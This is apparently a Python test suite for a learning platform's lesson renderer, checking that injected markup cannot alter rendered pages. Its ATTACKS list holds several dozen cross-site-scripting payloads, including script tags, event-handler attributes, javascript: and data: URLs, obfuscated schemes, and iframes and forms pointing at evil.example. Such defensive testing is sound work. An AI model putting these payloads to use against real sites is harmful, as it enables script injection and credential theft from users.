"""Hostile text in a lesson, a question or a glossary cannot change the page."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.curriculum.document import Document, Lesson, Module
from lms.curriculum.reference import Claim, Term
from lms.curriculum.render import inline, render_lesson
from lms.curriculum.render.clean import clean
from tests.examples import at_most

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/x)",
    "[x](https://x.example 'on\"mouseover=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![a\"onload=\"alert(1)](x)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<button popovertarget=main>x</button>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "```\"onload=alert(1)\n<script>\n```",
    "# <script>alert(1)</script>",
    ":::caution <script>alert(1)</script>\n<script>alert(1)</script>\n:::",
    ":::figure <script>\n<script>alert(1)</script>\n:::",
    ":::<script> x\ny\n:::",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "| <script> | b |\n|---|---|\n| <img onerror=x> | c |",
    "hip <script>alert(1)</script>",
    "[lesson](lesson:x\"onclick=\"alert(1))",
    "[atlas\"onclick=\"x]",
]  # fmt: skip
TAG = re.compile(r"<[^>]*>")
ALLOWED = re.compile(
    r"</?(h[2-6]|em|strong|code|br|a|sup|span|button|p|ul|ol|li|blockquote|pre|hr|table|thead|tbody|tr|th|td|div|section"
    r"|figure|figcaption|details|summary)\b"
)
ATTRIBUTE = re.compile(
    r'\s(?:class="[a-z -]*"|id="(?:s|term|fn|fnref|claim|figure)-[^"<>]*"|role="[a-z]*"|scope="[a-z]*"|tabindex="0"'
    r'|aria-(?:label|hidden)="[^"<>]*"|type="button"|popovertarget="term-[a-z-]*"|popover=""|start="\d+"|data-label="[^"]*"'
    r'|href="(?:https?://|mailto:|/courses/|#(?:source|fn|fnref|figure)-)[^"<>]*")'
)


def refuse_foreign(made):
    """Every tag must be one of ours, with attributes of ours alone."""
    for tag in TAG.findall(made):
        assert ALLOWED.match(tag), tag
        assert re.fullmatch(r"</?\w+\s*/?>", ATTRIBUTE.sub("", tag)), tag
    assert "<" not in TAG.sub("", made)


def lesson(text, term="hip", words="x"):
    """A document as an edition might hold it, whatever the compiler would have said."""
    return Document(
        slug="x", title="X", summary="", modules=(Module(id="m", title="M", steps=("l",)),), quizzes=(),
        lessons=(Lesson(id="l", title="L", minutes=1, text=text, digest=""),),
        terms=(Term(id="t", term=term, meaning=words, say=words),) if term.strip() else (),
        claims=(Claim(id="c", statement=words, said=words, finding=words, badge="S", reviewer=words),),
    )  # fmt: skip


def rendered(text, **about):
    return "".join(map(str, render_lesson(lesson(text, **about), "l", "en").parts))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.usefixtures("words")
def test_an_attack_in_a_lesson_comes_to_nothing(attack):
    refuse_foreign(rendered(attack))
    refuse_foreign(rendered(f"hip and\n\n:::claim c\n:::\n\n{attack}", words=attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_question_comes_to_nothing(attack):
    refuse_foreign(inline(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_on_the_last_gate_comes_to_nothing(attack):
    refuse_foreign(clean(attack))


PIECES = st.sampled_from([*ATTACKS, "[", "](", ")", "`", "*", "\n", "\n\n", ":::", "hip", "<", ">", '"', "&", "|"])


@settings(max_examples=at_most(150))
@given(pieces=st.lists(PIECES, max_size=8), words=st.sampled_from(ATTACKS))
def test_attacks_put_together_come_to_nothing(small_app, pieces, words):
    with small_app.app_context():
        refuse_foreign(rendered("".join(pieces), words=words))
